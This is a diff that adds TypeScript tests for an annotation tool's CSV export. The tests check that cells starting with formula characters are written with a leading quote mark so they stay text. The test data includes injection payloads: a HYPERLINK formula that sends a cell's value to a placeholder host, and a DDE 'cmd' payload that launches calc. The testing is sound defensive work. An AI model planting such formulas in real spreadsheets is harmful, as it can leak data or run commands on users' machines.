@@ -158,4 +158,31 @@ describe('export formats', () => {
     assert.equal(column(orphan, 'start'), '');
     assert.equal(column(orphan, 'text'), 'a deleted sentence');
   });
+
+  // A scraped headline, a hand-typed note, an author name: each could open with a formula that a
+  // spreadsheet would run. Each such cell is kept text by a leading ', like the report's tables.
+  const formulas = [
+    { column: 'note', value: '=HYPERLINK("http://example.invalid/?"&A1,"open")', written: `"'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"` },
+    { column: 'note', value: '+cmd|\' /C calc\'!A0', written: `'+cmd|' /C calc'!A0` },
+    { column: 'author', value: '@SUM(1+1)', written: `'@SUM(1+1)` },
+    { column: 'label', value: '-2+3', written: `'-2+3` },
+    { column: 'note', value: '\t=1', written: `'\t=1` },
+  ] as const;
+  for (const f of formulas) {
+    it(`csv: a ${f.column} opening with ${JSON.stringify(f.value[0])} is written as text (${JSON.stringify(f.written)})`, () => {
+      const [first, ...others] = sampleTags();
+      assert.ok(first);
+      const tag = { ...first, [f.column]: f.value };
+      const content = file(exportCsv([sampleArticle([tag, ...others])]), 'annotations.csv');
+      const row = content.split('\r\n').find((line) => line.startsWith(`story.txt,${first.id},`)) ?? '';
+      assert.ok(row.includes(`,${f.written},`) || row.startsWith(`story.txt,${first.id},${f.written},`), row);
+      const cell = readCsv(content).find((r) => r[1] === first.id)?.[CSV_COLUMNS.indexOf(f.column)];
+      assert.equal(cell, `'${f.value}`, 'read back: the value behind one quote mark');
+    });
+  }
+
+  it('csv: offsets, dates and ordinary words are written as they are', () => {
+    const content = file(exportCsv([article]), 'annotations.csv');
+    assert.doesNotMatch(content, /(^|,)'[^=+\-@\t\r]/m, 'no quote mark before a cell that does not need one');
+  });
 });
